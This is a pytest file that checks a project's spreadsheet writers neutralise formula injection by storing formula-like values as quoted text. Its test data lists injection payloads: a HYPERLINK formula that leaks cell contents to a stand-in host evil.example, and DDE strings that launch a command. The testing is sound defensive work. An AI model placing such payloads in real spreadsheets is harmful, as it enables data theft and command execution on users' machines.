"""Issue #9, files and input: formula injection in written sheets, bounded reading of uploads."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from yinling.core.sheets import RejectedRow, write_report, write_xlsx

# OWASP's list of what a spreadsheet reads as the start of a formula, each as an attack would use it.
INJECTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xml_text(value: str) -> str:
    return value.replace("\r", "\n")


def _formula_free(sheet_xml: str) -> None:
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="str"' not in sheet_xml  # a formula's cached string


def test_it_writes_formula_like_export_values_as_quoted_text_and_keeps_numbers_numbers() -> None:
    buffer = io.BytesIO()
    write_xlsx(buffer, ["=title", "值", "数"], [[v, "普通", -3] for v in INJECTED])
    with zipfile.ZipFile(buffer) as zf:
        _formula_free(zf.read("xl/worksheets/sheet1.xml").decode())
    buffer.seek(0)
    ws = load_workbook(buffer).active
    assert ws["A1"].value == "=title" and ws["A1"].data_type == "s" and ws["A1"].quotePrefix and ws["A1"].font.b
    for row, value in enumerate(INJECTED, 2):
        cell = ws.cell(row, 1)
        # The value as stored (re-importable), as text that stays text when edited; XML reads a
        # carriage return as a line feed.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (_xml_text(value), "s", True)
        assert ws.cell(row, 2).quotePrefix is False
        assert (ws.cell(row, 3).value, ws.cell(row, 3).data_type) == (-3, "n")


def test_it_writes_formula_like_uploaded_values_in_the_error_report_as_text(tmp_path: Path) -> None:
    target = tmp_path / "report.xlsx"
    rejected = [RejectedRow(n, [value, -3, "-3"], [(0, "@姓名", "=不对")]) for n, value in enumerate(INJECTED, 2)]
    write_report(["@姓名", "=数", "文本"], rejected, target)
    with zipfile.ZipFile(target) as zf:
        _formula_free(zf.read("xl/worksheets/sheet1.xml").decode())
    ws = load_workbook(target).active
    assert [(c.value, c.data_type) for c in ws[1]][:2] == [("@姓名", "s"), ("=数", "s")]
    for row, value in enumerate(INJECTED, 2):
        cell = ws.cell(row, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (_xml_text(value), "s", True)
        assert (ws.cell(row, 2).value, ws.cell(row, 2).data_type) == (-3, "n")  # a number stays a number
        assert (ws.cell(row, 3).value, ws.cell(row, 3).data_type) == ("-3", "s")
        assert ws.cell(row, 4).data_type == "s"
